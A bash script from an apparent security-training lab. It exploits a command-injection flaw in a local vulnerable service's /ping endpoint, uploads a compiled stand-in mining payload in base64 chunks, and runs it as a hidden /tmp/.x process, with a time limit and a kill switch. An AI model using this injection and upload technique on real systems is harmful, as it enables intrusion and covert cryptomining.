#!/usr/bin/env bash
# The unknown-binary exercise: drop the lab payload into the running
# vulnerable service the way an intruder would, through the app's own
# command injection (GET /ping?ip=127.0.0.1;COMMAND), and start it.
#
#   lab/attack.sh [--max-seconds N]   (make -C lab attack)
#   lab/attack.sh --stop              (make -C lab attack-stop: the kill switch)
#
# 1. builds lab/payload/kworker.c with this host's gcc (the intruder's own
#    toolchain; same Debian release as the image);
# 2. starts the stand-in mining pool (lab/payload/pool.py) on the web
#    container's loopback: lab infrastructure, started with docker exec;
# 3. uploads the binary in base64 chunks through the injection, decodes it
#    to /tmp/.x, and runs it (it hides itself and detaches).
# The payload stops by itself after --max-seconds (default 90).
set -euo pipefail

kRoot="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
readonly kRoot
readonly kUrl="${LAB_URL:-http://127.0.0.1:15000}"
readonly kProject=bulwark-lab
max_seconds=90
stop=0
while [[ $# -gt 0 ]]; do
  case "$1" in
    --max-seconds) max_seconds="$2"; shift 2 ;;
    --stop) stop=1; shift ;;
    *) echo "usage: $0 [--max-seconds N] [--stop]" >&2; exit 2 ;;
  esac
done

Say() { printf 'attack: %s\n' "$*"; }
Die() { printf 'attack: error: %s\n' "$*" >&2; exit 1; }

web="$(docker ps -q --filter "label=com.docker.compose.project=${kProject}" \
  --filter label=com.docker.compose.service=web | head -n 1)"
[[ -n "${web}" ]] || Die "the lab's web container is not running (make -C lab start)"

if (( stop )); then
  docker exec "${web}" touch /tmp/.bulwark-lab-stop
  Say "kill switch set in ${web:0:12}: the payload stops within a second"
  exit 0
fi

# Inject COMMAND: runs it through /ping's shell, as the app's user.
Inject() { curl -sS -m 30 --get --data-urlencode "ip=127.0.0.1 -c 1 -W 1 >/dev/null; $1" "${kUrl}/ping"; }

work="$(mktemp -d /tmp/bulwark-attack.XXXXXX)"
trap 'rm -rf "${work}"' EXIT
command -v gcc >/dev/null || Die "gcc is missing (apt-get install build-essential)"
gcc -O2 -o "${work}/kworker" "${kRoot}/lab/payload/kworker.c"
Say "payload built: $(sha256sum "${work}/kworker" | cut -c1-16)... ($(stat -c %s "${work}/kworker") bytes)"

docker exec "${web}" rm -f /tmp/.bulwark-lab-stop
docker exec -d "${web}" python3 -c "$(cat "${kRoot}/lab/payload/pool.py")" --port 3333 \
  --max-seconds "$((max_seconds + 30))" --log /tmp/bulwark-lab-pool.log
Say "stand-in mining pool on the web container's 127.0.0.1:3333 (log: /tmp/bulwark-lab-pool.log there)"

Inject "rm -f /tmp/.x.b64" >/dev/null
base64 -w 3000 "${work}/kworker" >"${work}/chunks"
chunks=0
while IFS= read -r chunk; do
  Inject "printf %s ${chunk} >> /tmp/.x.b64" >/dev/null
  chunks=$((chunks + 1))
done <"${work}/chunks"
Say "uploaded in ${chunks} requests to ${kUrl}/ping"
Inject "base64 -d /tmp/.x.b64 > /tmp/.x && rm /tmp/.x.b64 && chmod +x /tmp/.x" >/dev/null
Inject "/tmp/.x --pool-port 3333 --max-seconds ${max_seconds}" >/dev/null
Say "payload started in ${web:0:12}; it stops by itself after ${max_seconds} s (make -C lab attack-stop stops it now)"
